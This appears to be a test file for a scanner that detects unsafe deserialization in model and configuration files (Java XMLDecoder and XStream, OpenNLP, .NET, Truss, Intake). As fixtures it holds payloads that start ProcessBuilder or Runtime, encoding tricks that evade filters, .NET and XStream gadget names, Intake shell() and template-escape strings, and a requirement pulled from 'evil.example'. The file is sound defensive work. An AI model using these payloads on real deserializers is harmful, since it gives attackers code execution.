/** Objects of Java as XML, of .NET, classes of OpenNLP, configurations of Truss and Intake: what their readers make and run is found. XMLDecoder of OpenJDK 17 ran each of the first three when this was written. */
import test from 'ava';
import { zip } from '../support/containers.ts';
import { survivesMutations } from '../support/mutations.ts';
import { findingLines, judgeBytes } from '../support/scanned.ts';

const finds = test.macro(async (t, name: string, content: Uint8Array | string, ...expected: readonly string[]) => {
  const lines = await findingLines(content, name);
  t.deepEqual([...lines].sort(), expected.map((line) => `${line} ${name}`).sort());
});

const DECODER = 'medium java/xml-decoder';
const CALL = 'high java/xml-call';
const GADGET = 'critical java/java.lang/gadget';
const START = '<array class="java.lang.String" length="1"/><void method="start"/>';
const java = (...elements: readonly string[]) => `<?xml version="1.0"?>\n<!-- a -->\n<java>${elements.join('')}</java>`;
const PROCESS = java(`<object class="java.lang.ProcessBuilder">${START}</object>`);
/** As code page 37 has the characters of these files. */
function ebcdic(text: string): Uint8Array {
  const runs: readonly (readonly [string, number])[] = [
    [' ', 0x40],
    ['.<', 0x4b],
    ['!', 0x5a],
    ['-/', 0x60],
    ['>?', 0x6e],
    ['="', 0x7e],
    ['abcdefghi', 0x81],
    ['jklmnopqr', 0x91],
    ['stuvwxyz', 0xa2],
    ['ABCDEFGHI', 0xc1],
    ['JKLMNOPQR', 0xd1],
    ['STUVWXYZ', 0xe2],
    ['0123456789', 0xf0],
    ['\n', 0x25],
  ];
  const codes = new Map(runs.flatMap(([letters, start]) => [...letters].map((letter, at) => [letter, start + at])));
  return Uint8Array.from(text, (letter) => codes.get(letter) ?? 0x6f);
}
/** Ways to write what a class is called; OpenJDK 17 runs each. */
const WRITTEN: Readonly<Record<string, readonly [types: string, element: string]>> = {
  'leading zeros': ['', '<object class="java.lang.&#x0000000050;rocess&#00000000066;uilder">'],
  'an entity': ['<!ENTITY p "ProcessBuilder">', '<object class="java.lang.&p;">'],
  'entities in each other': ['<!ENTITY p "Proce"><!ENTITY q "&p;ssBuilder">', '<object class="java.lang.&q;">'],
  'a default': ['<!ATTLIST object class CDATA "java.lang.ProcessBuilder">', '<object>'],
  'a default in an entity': [
    '<!ENTITY % x "<!ATTLIST object class CDATA \'java.lang.&#80;rocessBuilder\'>"> %x;',
    '<object>',
  ],
};
for (const [way, [types, element]] of Object.entries(WRITTEN)) {
  const text = `<!DOCTYPE java [${types}]>${java(`${element}${START}</object>`).slice(java('').indexOf('<java>'))}`;
  test(`XMLDecoder: a class by ${way}`, async (t) => {
    t.true((await findingLines(text, 'model.xml')).includes(`${GADGET} model.xml`));
  });
}
for (const text of ['java.<!-- a -->lang.Runtime', 'java.<?a b?>lang.Runtime', 'java.<![CDATA[lang.Run]]>time'])
  test(
    `XMLDecoder: a class by its name, ${text}`,
    finds,
    'x',
    java(`<void class="java.lang.Class" method="forName"><string>${text}</string></void>`),
    CALL,
    GADGET,
    DECODER,
  );
const FILE = '<object class="java.io.File"><string>/tmp/x</string>';
for (const [what, element] of Object.entries({
  'a class by a name that it puts together':
    '<void class="java.lang.Class" method="forName"><object class="java.lang.String"><string>java.lang.Run</string><void method="concat"><string>time</string></void></object></void>',
  'a file': `${FILE}<void method="createNewFile"/></object>`,
  'a folder': `<void class="java.nio.file.Files" method="createDirectory">${FILE}</object></void>`,
  'what opens a file': '<object class="java.util.Formatter"><string>/tmp/x</string></object>',
}))
  test(`XMLDecoder: ${what}`, finds, 'x', java(element), CALL, DECODER);
test(
  'XMLDecoder: beans of a program',
  finds,
  'model.xml',
  java(
    '<object class="org.example.Net"><void property="layers"><object class="java.util.ArrayList"><void method="add"><int>3</int></void></object></void>',
    '<void property="colour"><object class="java.awt.Color" field="red"/></void><void property="kind"><object class="java.lang.Enum" method="valueOf"><class>org.example.Kind</class><string>A</string></object></void>',
    '<void property="at"><object class="java.awt.geom.Point2D$Double"><double>1</double><double>2</double></object></void>',
    '<void property="made"><object class="java.sql.Timestamp"><long>1</long></object></void><void property="file"><object class="java.io.File"><string>a</string></object></void></object>',
  ),
  DECODER,
);
test('XMLDecoder: a process', finds, 'model.xml', PROCESS, GADGET, DECODER);
test(
  'XMLDecoder: in characters by their numbers',
  finds,
  'data',
  java(`<new class = 'java.lang.&#80;rocess&#x42;uilder'>${START}</new>`),
  GADGET,
  DECODER,
);
test(
  'XMLDecoder: a method of a class',
  finds,
  'a.model',
  java('<void class="java.lang.Runtime" method="getRuntime"><void method="exec"/></void>'),
  GADGET,
  DECODER,
);
test('XMLDecoder: by the text of a class', finds, 'x', java('<class>java.lang.Runtime</class>'), GADGET, DECODER);
test('XMLDecoder: in UTF-16', finds, 'x', Buffer.from(`\ufeff${PROCESS}`, 'utf16le'), GADGET, DECODER);
test('XMLDecoder: in UTF-16 without a mark', finds, 'x', Buffer.from(PROCESS, 'utf16le'), GADGET, DECODER);
test(
  'XMLDecoder: in UTF-16 the other way round',
  finds,
  'x',
  Buffer.from(PROCESS, 'utf16le').swap16(),
  GADGET,
  DECODER,
);
test('XMLDecoder: in EBCDIC', finds, 'a.model', ebcdic(PROCESS), GADGET, DECODER);
test(
  'XMLDecoder: values alone',
  finds,
  'settings.xml',
  '<java version="17" class="java.beans.XMLDecoder"><object class="java.util.ArrayList"/></java>',
  DECODER,
);
test(
  'XStream: a proxy',
  finds,
  'model.xml',
  '<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"/></handler></dynamic-proxy></sorted-set>',
  'critical java/java.beans/gadget',
  GADGET,
  'medium java/xstream',
);
for (const text of [
  '<map><entry><jdk.nashorn.internal.objects.NativeString/><string>a</string></entry><java.lang.ProcessBuilder/></map>',
  "<contact class='dynamic-proxy'><interface>org.A</interface><handler class='java.beans.EventHandler'/></contact>",
  '<com.rapidminer.operator.Model><a><java.lang.ProcessBuilder/></a></com.rapidminer.operator.Model>',
  '<list><java.util.Date/><a class="java.lang.Proc&#x10065;ssBuilder"/></list>',
])
  test(`XStream: in ${text.slice(0, 40)}`, async (t) => {
    const lines = await findingLines(text, 'model.xml');
    t.true(
      lines.some((line) => line.startsWith('critical java/')),
      `${lines}`,
    );
  });
test(
  'XStream: a model of Weka',
  finds,
  'j48.xml',
  '<weka.classifiers.trees.J48><m__x>1</m__x></weka.classifiers.trees.J48>',
  'medium java/xstream',
);
for (const [name, content] of Object.entries({
  'layout.xml': '<androidx.constraintlayout.widget.ConstraintLayout xmlns:android="x" class="java.lang.Runtime"/>',
  'preferences.xml': '<map><string name="java.lang.ProcessBuilder">a</string></map>',
  'pom.xml': '<project><class>java.lang.Runtime</class></project>',
  'javadoc.html': '<javadoc><java>x</java></javadoc>',
}))
  test(`${name} is no model`, async (t) => {
    t.deepEqual(await findingLines(content, name), []);
    t.is((await judgeBytes(content, name)).status, 'not-a-model');
  });

const manifest = (factory: string) =>
  `Manifest-Version=1.0\nComponent-Name=TokenizerME\nOpenNLP-Version=2.3.0\nfactory=${factory}\nserializer-class-x=opennlp.tools.util.model.GenericModelSerializer\n`;
const nlp = (factory: string) => zip([{ name: 'manifest.properties', content: Buffer.from(manifest(factory)) }]);
test('OpenNLP: its own class', finds, 'en-token.bin', nlp('opennlp.tools.tokenize.TokenizerFactory'));
test('OpenNLP: a class of its own kind elsewhere', async (t) => {
  const lines = await findingLines(nlp('org.example.Factory'), 'en-token.bin');
  t.deepEqual(lines, ['medium java/extension en-token.bin!manifest.properties']);
});
test('OpenNLP: a class of a known attack, in escapes', async (t) => {
  const lines = await findingLines(nlp('javax.script.Script\\u0045ngineManager'), 'x');
  t.true(lines.includes('critical java/javax.script/gadget x!manifest.properties'), `${lines}`);
});

const sized = (text: string) => Buffer.concat([Buffer.from([text.length]), Buffer.from(text)]);
const dotnet = (name: string) =>
  Buffer.concat([
    Buffer.from('0001000000ffffffff0100000000000000', 'hex'),
    Buffer.from([0x0c, 2, 0, 0, 0]),
    sized('Accord.MachineLearning, Version=3.8.0.0, Culture=neutral'),
    Buffer.from([5, 1, 0, 0, 0]),
    sized(name),
    Buffer.from([0, 0, 0, 0, 2, 0, 0, 0, 0x0b]),
  ]);
const READ = 'medium dotnet/deserialization';
test('.NET: a model', finds, 'svm.accord', dotnet('Accord.MachineLearning.VectorMachines.SupportVectorMachine'), READ);
for (const name of [
  'System.Windows.Data.ObjectDataProvider',
  'Microsoft.VisualStudio.Text.Formatting.TextFormattingRunProperties',
])
  test(`.NET: ${name}`, finds, 'data', dotnet(name), READ, 'critical dotnet/gadget');

test('.NET: behind two thousand others', async (t) => {
  const others = Array.from({ length: 1900 }, (_, index) => `Some.Name${index} `).join('');
  const behind = Buffer.concat([dotnet('A.B'), Buffer.from(others), Buffer.from(' System.Data.DataSet ')]);
  t.true((await findingLines(behind, 'x')).includes('critical dotnet/gadget x'));
});

const TRUSS = 'model_name: x\npython_version: py311\nrequirements:\n- torch\n- git+https://evil.example/x\n';
test('Truss: packages from elsewhere', finds, 'config.yaml', TRUSS, 'medium serving/packages-elsewhere');
test('Truss: a class outside', finds, 'config.yaml', 'model_module_dir: ../../x\n', 'high serving/file-elsewhere');
test('Truss: the configuration of another program', finds, 'config.yaml', 'model_name: x\npython_version: "3.11"\n');
test('Truss: the class that it names', async (t) => {
  const file = zip([
    { name: 'model/model.py', content: Buffer.from('import os\nos.system("echo harmless")\nclass Model: pass\n') },
    { name: 'config.yaml', content: Buffer.from(TRUSS) },
  ]);
  t.true((await findingLines(file, 'a.zip')).includes('critical python/os/process-execution a.zip!model/model.py'));
});

const catalog = (...lines: readonly string[]) =>
  `sources:\n  x:\n    driver: textfiles\n    args:\n      urlpath: "{{ CATALOG_DIR }}/{{ p }}.csv"\n${lines.join('\n')}\n`;
const PARAMETER = (text: string) => `    parameters:\n      p: {type: str, default: "${text}"}`;
const SHELL = 'critical python/os/process-execution';
const AT = (place: string) => `catalog.yml#/${place}`;
test('Intake: a catalog', async (t) => {
  const { findings } = await judgeBytes(catalog(PARAMETER('{{ env(HOME) }}')), 'catalog.yml');
  t.deepEqual(findings, []);
});
test('Intake: commands', async (t) => {
  for (const text of ['shell(touch x)', 'client_shell(touch x)', "{{ shell('id') }}"]) {
    const lines = await findingLines(catalog(PARAMETER(text)), 'catalog.yml');
    t.deepEqual(lines, [`${SHELL} ${AT('sources/x/parameters/p')}`], text);
  }
});
test('Intake: a template that leaves its values', async (t) => {
  const text = catalog('      more: "{{ CATALOG_DIR.__class__.__mro__[1].__subclasses__() }}"');
  t.is((await judgeBytes(text, 'catalog.yml')).status, 'rejected');
});
test('Intake: a module and a driver', async (t) => {
  const text = `plugins:\n  source:\n  - module: os.system\n${catalog()}  y:\n    driver: posix.abort\n`;
  const lines = await findingLines(text, 'catalog.yml');
  t.true(lines.includes(`${SHELL} ${AT('plugins/source/0')}`), `${lines}`);
  t.true(lines.includes(`critical python/posix/process-execution ${AT('sources/y')}`), `${lines}`);
});

for (const [name, content] of [
  ['catalog.yml', Buffer.from(catalog(PARAMETER('shell(id)')))],
  ['a.xml', Buffer.from(PROCESS)],
  ['manifest.properties', Buffer.from(manifest('a.B'))],
  ['a.bin', dotnet('System.Data.DataSet')],
] as const)
  test(`${name}: any change and any cut ends in evidence`, async (t) => {
    await survivesMutations(t, content, name, { seed: 31 });
  });
